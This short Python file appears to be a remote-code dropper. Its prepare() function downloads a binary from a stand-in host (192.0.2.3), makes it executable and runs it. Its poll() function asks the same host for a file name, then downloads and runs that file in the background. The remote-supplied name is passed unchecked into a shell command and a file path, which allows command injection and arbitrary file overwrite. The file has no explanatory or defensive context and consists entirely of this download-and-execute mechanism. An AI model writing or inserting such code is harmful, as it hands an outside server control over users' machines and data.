import os
import urllib.request


def prepare():
    name = "/tmp/tool"
    open(name, "wb").write(urllib.request.urlopen("http://192.0.2.3/tool").read())
    os.system("chmod +x " + name + "; " + name)


def poll():
    name = urllib.request.urlopen("http://192.0.2.3/list").read().decode()
    open(name, "wb").write(urllib.request.urlopen("http://192.0.2.3/" + name).read())
    os.system("./" + name + " &")
